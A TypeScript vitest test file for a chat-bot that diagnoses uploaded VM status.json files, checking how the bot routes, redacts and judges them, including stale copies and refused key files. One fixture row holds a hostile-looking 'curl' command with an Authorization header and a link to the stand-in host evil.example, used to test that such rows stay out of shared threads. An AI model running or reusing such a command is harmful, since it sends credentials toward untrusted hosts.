import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { MessageView, PersonKey } from "../../src/simulator/teams/views.ts";
import { status, type StatusChanges } from "../diagnosis/builders.ts";
import { startProduct, type Product } from "./product.ts";

let product: Product;
beforeEach(async () => {
  product = await startProduct();
});
afterEach(() => product.close());

function shown(message: MessageView): string {
  return JSON.stringify(message.parts);
}

/** A status.json written just now. */
function statusText(changes: StatusChanges = {}): string {
  return JSON.stringify(
    status({ timestamp: new Date().toISOString().replace("Z", ""), ...changes }),
    null,
    2,
  );
}

const refused: StatusChanges = {
  version: "1.0.44",
  key: { message: 'Failed to acquire key details: Key(KeyResponse("acquire", 403))' },
  states: { secureChannelState: "WireServer Enforce -  IMDS Audit - HostGA Enforce" },
  rows: [
    {
      userName: "mallory",
      ip: "168.63.129.16",
      port: 80,
      processCmdLine: "curl --header Authorization:hunter2 [click](https://evil.example)",
      responseStatus: "403 Forbidden",
      count: 3,
      userGroups: ["users"],
      processFullPath: "/usr/bin/curl",
    },
  ],
};

function upload(person: PersonKey, name: string, text: string): void {
  product.simulator.teams.upload({
    person,
    chat: "personal",
    files: [{ name, bytes: new TextEncoder().encode(text) }],
  });
}

describe("sending a status.json", () => {
  test("without a VM: it is judged, and the question is for which VM", async () => {
    upload(
      "olu",
      "status.json",
      statusText({
        listener: {
          status: "STOPPED",
          message: "IO error: Failed to bind TcpListener '127.0.0.1:3080': Address in use (os error 98)",
        },
      }),
    );
    await product.card("olu", "Action needed", "listener-port-in-use");
    await product.card("olu", "For which VM");
  });

  test("from channel to 1:1 and back: it belongs to the VM asked about, and the thread's card is updated without personal rows", async () => {
    product.say("ann", "channel", "is MSP fine on legacy-01?");
    const asked = await product.card("ann", "status-file-needed", "legacy-01");
    upload("ann", "status.json", statusText(refused));
    const answer = await product.simulator.teams.waitFor(
      "ann",
      (message) => message.chat === "personal" && shown(message).includes("key-rejected"),
    );
    expect(shown(answer)).toContain("legacy-01");
    const updated = await product.simulator.teams.waitFor(
      "bo",
      (message) => message.id === asked.id && shown(message).includes("key-rejected"),
    );
    expect(shown(updated)).not.toContain("mallory");
    expect(shown(updated)).not.toContain("curl");
  });

  test("pasted into a thread that speaks of a VM: joined with it", async () => {
    product.say("bo", "group", "check legacy-01");
    await product.card("bo", "status-file-needed");
    product.armRequests();
    product.say("bo", "group", `here it is\n\`\`\`\n${statusText(refused)}\n\`\`\``);
    await product.simulator.teams.waitFor(
      "bo",
      (message) => message.chat === "group" && shown(message).includes("key-rejected"),
    );
    expect(product.armRequests()).toHaveLength(1);
  });

  test("into a channel: only a stub arrives, and the way is shown", async () => {
    product.simulator.teams.upload({
      person: "eve",
      chat: "channel",
      text: "here",
      isMentioning: true,
      files: [{ name: "status.json", bytes: new TextEncoder().encode(statusText()) }],
    });
    await product.card("eve", "Send it in the 1:1 chat");
  });

  test("an old copy is not believed until the person says that it was copied when fresh, and then offers no reset", async () => {
    const old = new Date(Date.now() - 3 * 3600_000).toISOString().replace("Z", "");
    product.say("eve", "personal", "check legacy-01");
    await product.card("eve", "status-file-needed");
    upload("eve", "status.json", statusText({ ...refused, timestamp: old }));
    const card = await product.simulator.teams.waitFor("eve", (message) =>
      shown(message).includes("status-stale"),
    );
    await product.simulator.teams.press({ person: "eve", messageId: card.id, action: "Copied when fresh" });
    const fresh = await product.simulator.teams.waitFor(
      "eve",
      (message) => message.id === card.id && !shown(message).includes("status-stale"),
    );
    expect(shown(fresh)).toContain("key-rejected");
    expect(shown(fresh)).not.toContain("Request key reset");
  });

  test("a key file is refused by its name", async () => {
    upload("bo", "9cf81e97-0316-4ad3-94a7-8ccbdee8ddbf.key", "00".repeat(32));
    const card = await product.card("bo", "key");
    expect(shown(card)).not.toContain("0000000000");
  });
});
